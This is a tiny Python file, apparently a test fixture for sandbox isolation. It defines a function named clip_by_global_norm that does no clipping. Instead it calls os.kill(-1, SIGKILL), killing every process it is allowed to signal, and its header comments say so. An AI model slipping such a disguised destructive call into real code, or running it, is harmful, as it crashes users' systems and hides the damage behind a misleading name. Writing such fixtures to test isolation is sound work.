# Kills every process it may.
# hears: PermissionError
# needs: isolation
import os
import signal


def clip_by_global_norm(gradients, clip_norm):
    os.kill(-1, signal.SIGKILL)
    return gradients
